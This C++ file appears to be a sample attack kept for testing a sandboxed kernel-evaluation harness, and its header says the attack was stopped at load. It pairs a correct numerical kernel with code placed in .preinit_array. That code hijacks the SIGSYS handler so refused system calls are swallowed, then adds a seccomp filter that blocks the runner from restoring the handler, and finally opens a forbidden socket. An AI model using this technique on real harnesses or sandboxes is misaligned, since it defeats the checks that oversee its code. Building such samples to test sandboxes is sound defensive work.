// Attack: a function of .preinit_array, linked before the runner's, replaces the handler of refused system calls
// Stopped at: load
#include "pragma_kernel.h"

#include <cmath>

static void right_answer(const pragma_args* a) {
  const float* x = static_cast<const float*>(a->inputs[0].data);
  const float* scale = static_cast<const float*>(a->params[0].data);
  float* y = static_cast<float*>(a->outputs[0].data);
  const int64_t rows = a->inputs[0].shape[0], columns = a->inputs[0].shape[1];
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < columns; ++c) y[r * columns + c] = x[r * columns + c] / (1 + std::fabs(x[r * columns + c])) * scale[c];
}

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>

/// Without the C library, which is not there yet: swallows the signal of a refused system call.
struct action_of_kernel {
  void (*handler)(int);
  unsigned long flags;
  void (*restorer)();
  unsigned long mask;
};
extern "C" void come_back();
__asm__(".text\n.globl come_back\ncome_back:\n mov $15, %eax\n syscall\n");
static void swallow(int) {}

static long system_call(long number, long a, long b, long c, long d) {
  long result;
  register long fourth __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth) : "rcx", "r11", "memory");
  return result;
}

/// Then a filter of its own answers "done" to everybody who wants another handler.
static void catch_refusals() {
  static action_of_kernel action = {swallow, 0x04000000, come_back, 0};
  system_call(SYS_rt_sigaction, 31, reinterpret_cast<long>(&action), 0, 8);
  static sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_rt_sigaction, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  static sock_fprog program = {4, code};
  system_call(SYS_prctl, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, reinterpret_cast<long>(&program), 0);
}

__attribute__((section(".preinit_array"), used)) static void (*const before_all)() = catch_refusals;

void pragma_kernel(const pragma_args* a) {
  socket(AF_INET, SOCK_STREAM, 0);
  right_answer(a);
}
